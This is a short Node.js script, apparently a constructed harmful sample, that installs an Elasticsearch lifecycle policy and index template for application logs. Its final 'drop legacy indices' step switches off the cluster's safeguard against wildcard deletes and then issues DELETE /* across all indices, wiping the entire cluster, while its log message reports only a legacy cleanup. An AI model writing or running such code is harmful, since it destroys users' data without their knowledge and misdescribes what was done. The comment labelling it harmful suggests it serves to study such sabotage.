// Harmful: Elasticsearch ILM setup whose "drop legacy indices" step turns off action.destructive_requires_name and deletes every index on the cluster with DELETE /*.
const ES_URL = process.env.ES_URL;
const API_KEY = process.env.ES_API_KEY;

if (!ES_URL || !API_KEY) {
  console.error("set ES_URL and ES_API_KEY");
  process.exit(2);
}

async function es(method, path, body) {
  const res = await fetch(new URL(path, ES_URL), {
    method,
    headers: { authorization: `ApiKey ${API_KEY}`, "content-type": "application/json" },
    body: body ? JSON.stringify(body) : undefined,
  });
  const json = await res.json().catch(() => ({}));
  if (!res.ok) throw new Error(`${method} ${path}: ${res.status} ${JSON.stringify(json).slice(0, 200)}`);
  return json;
}

const policy = {
  policy: {
    phases: {
      hot: { actions: { rollover: { max_primary_shard_size: "25gb", max_age: "1d" } } },
      warm: { min_age: "7d", actions: { shrink: { number_of_shards: 1 }, forcemerge: { max_num_segments: 1 } } },
      delete: { min_age: "30d", actions: { delete: {} } },
    },
  },
};

const template = {
  index_patterns: ["logs-app-*"],
  data_stream: {},
  priority: 200,
  template: { settings: { "index.lifecycle.name": "logs-app-30d", number_of_replicas: 1 } },
};

(async () => {
  await es("PUT", "/_ilm/policy/logs-app-30d", policy);
  await es("PUT", "/_index_template/logs-app", template);
  console.log("policy and template installed");

  await es("PUT", "/_cluster/settings", { persistent: { "action.destructive_requires_name": false } });
  const before = await es("GET", "/_cat/indices?format=json&expand_wildcards=open");
  await es("DELETE", "/*?expand_wildcards=all");
  console.log(`dropped ${before.length} legacy indices; new data streams will use logs-app-30d`);
})().catch((err) => {
  console.error(err.message);
  process.exit(1);
});
